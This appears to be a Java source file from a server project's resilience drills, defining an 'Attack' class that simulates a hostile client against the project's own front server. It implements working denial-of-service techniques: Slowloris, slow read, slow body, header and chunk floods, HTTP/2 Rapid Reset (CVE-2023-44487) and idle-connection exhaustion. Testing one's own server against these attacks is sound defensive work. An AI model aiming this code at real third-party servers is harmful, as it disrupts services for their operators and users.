package dev.holdfast.drills;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import dev.holdfast.limits.Time;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.LongAdder;

/**
 * Somebody who means harm, on many connections from addresses of their own, until closed. A
 * connection that the other side ends or answers is made again after a moment. The floods are
 * paced, because they come from the machine that they hit. Thread-safe.
 */
final class Attack implements AutoCloseable {
  private static final Duration FLOOD_AGAIN = Duration.ofMillis(100);
  private static final Duration CROWD_AGAIN = Duration.ofSeconds(2);
  private static final int CROWD = 100;
  private static final Duration DRIP = Duration.ofMillis(500);
  private static final Duration PULSE = Duration.ofMillis(20);
  private static final Duration SIT = Duration.ofSeconds(1);
  private static final int OPENED_PER_TICK = 20;
  private static final Duration TICK = Duration.ofMillis(10);
  private static final int ADDRESSES = 8;
  private static final int NETWORK = 66;
  private static final int TIMEOUT_MILLIS = 5_000;
  private static final int FLOOD_BYTES = 16 * 1024;
  private static final int STREAMS_PER_PULSE = 100;
  private static final int SMALL_WINDOW = 2048;
  private static final int BIG_BODY = 1 << 20;

  private final Time time;
  private final Front front;
  private final Kind kind;
  private final ConcurrentHashMap<Socket, Boolean> sockets = new ConcurrentHashMap<>();
  private final LongAdder opened = new LongAdder();
  private final LongAdder ended = new LongAdder();
  private volatile boolean over;

  /** What they do. */
  enum Kind {
    /** A head that comes line by line and never ends. */
    SLOWLORIS(1_000),
    /** A big answer that is read byte by byte. */
    SLOW_READ(200),
    /** A body that is announced and comes byte by byte. */
    SLOW_BODY(300),
    /** Header lines without an end. */
    HEADER_FLOOD(4),
    /** Chunks of one byte, each with an extension. */
    CHUNK_FLOOD(4),
    /** HTTP/2 streams that are opened and reset at once (CVE-2023-44487). */
    RAPID_RESET(4),
    /** Connections on which nothing is ever said. */
    IDLE(10_000);

    private final int connections;

    Kind(int connections) {
      this.connections = connections;
    }

    int connections() {
      return connections;
    }
  }

  /** Begins on so many connections, opened at a pace. */
  Attack(Time time, Front front, Kind kind, int connections) {
    this.time = time;
    this.front = front;
    this.kind = kind;
    Thread.ofVirtual().start(() -> open(connections));
  }

  @Override
  public String toString() {
    return "%d connections opened, %d ended by the other side, %d open"
        .formatted(opened.sum(), ended.sum(), sockets.size());
  }

  private void open(int connections) {
    try {
      for (int i = 0; i < connections && !over; i++) {
        int number = i;
        Thread.ofVirtual().start(() -> attack(number));
        if (i % OPENED_PER_TICK == OPENED_PER_TICK - 1) {
          time.sleep(TICK);
        }
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private void attack(int number) {
    // A crowd that came back at once would be another attack than the one it stands for.
    var again = kind.connections() < CROWD ? FLOOD_AGAIN : CROWD_AGAIN;
    try {
      while (!over) {
        var socket = new Socket();
        sockets.put(socket, true);
        try (socket) {
          if (kind == Kind.SLOW_READ) {
            socket.setReceiveBufferSize(SMALL_WINDOW);
          }
          socket.setReuseAddress(true);
          socket.bind(Visitors.address(NETWORK, number % ADDRESSES));
          socket.connect(front.visitors(), TIMEOUT_MILLIS);
          opened.increment();
          harm(socket);
          ended.increment();
        } catch (IOException e) {
          ended.increment();
        } finally {
          sockets.remove(socket);
        }
        time.sleep(again);
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private void harm(Socket socket) throws IOException, InterruptedException {
    var host = " HTTP/1.1\r\nHost: " + Front.HOST + "\r\n";
    switch (kind) {
      case SLOWLORIS -> repeat(socket, "GET /" + host, "X-More: and more\r\n", DRIP);
      case SLOW_BODY ->
          repeat(socket, "POST /slow" + host + "Content-Length: 1000000\r\n\r\n", "x", DRIP);
      case HEADER_FLOOD ->
          repeat(
              socket,
              "GET /" + host,
              "X-Flood: 0123456789abcdef\r\n".repeat(FLOOD_BYTES / 27),
              PULSE);
      case CHUNK_FLOOD ->
          repeat(
              socket,
              "POST /flood" + host + "Transfer-Encoding: chunked\r\n\r\n",
              "1;extension=flood\r\nx\r\n".repeat(FLOOD_BYTES / 22),
              PULSE);
      case SLOW_READ -> slowRead(socket, host);
      case RAPID_RESET -> rapidReset(socket);
      case IDLE -> untilEnd(socket);
    }
  }

  private void repeat(Socket socket, String once, String again, Duration pause)
      throws IOException, InterruptedException {
    var out = socket.getOutputStream();
    out.write(once.getBytes(ISO_8859_1));
    var bytes = again.getBytes(ISO_8859_1);
    var in = socket.getInputStream();
    while (!over && in.available() == 0) {
      out.write(bytes);
      time.sleep(pause);
    }
  }

  private void slowRead(Socket socket, String host) throws IOException, InterruptedException {
    socket.getOutputStream().write(("GET /bytes/" + BIG_BODY + host + "\r\n").getBytes(ISO_8859_1));
    var in = socket.getInputStream();
    while (!over && in.read() >= 0) {
      time.sleep(DRIP);
    }
  }

  private void untilEnd(Socket socket) throws IOException, InterruptedException {
    socket.setSoTimeout((int) SIT.toMillis());
    var in = socket.getInputStream();
    while (!over) {
      try {
        if (in.read() < 0) {
          return;
        }
      } catch (SocketTimeoutException e) {
        // as it should be: idle
      }
    }
  }

  private void rapidReset(Socket socket) throws IOException, InterruptedException {
    var out = socket.getOutputStream();
    out.write(Frames.preface());
    for (int stream = 1; !over && !saysGoodbye(socket); stream += 2 * STREAMS_PER_PULSE) {
      var pulse = new ByteArrayOutputStream();
      for (int i = 0; i < STREAMS_PER_PULSE; i++) {
        pulse.writeBytes(Frames.get(stream + 2 * i, Front.HOST));
        pulse.writeBytes(Frames.reset(stream + 2 * i));
      }
      out.write(pulse.toByteArray());
      time.sleep(PULSE);
    }
  }

  /** Reads what has come; whether a connection that resets streams was answered in HTTP/1.1. */
  private static boolean saysGoodbye(Socket socket) throws IOException {
    var in = socket.getInputStream();
    int there = in.available();
    return there > 0 && in.readNBytes(there)[0] == 'H';
  }

  /** Ends it and closes every connection. */
  @Override
  public void close() throws IOException {
    over = true;
    for (var socket : sockets.keySet()) {
      socket.close();
    }
  }
}
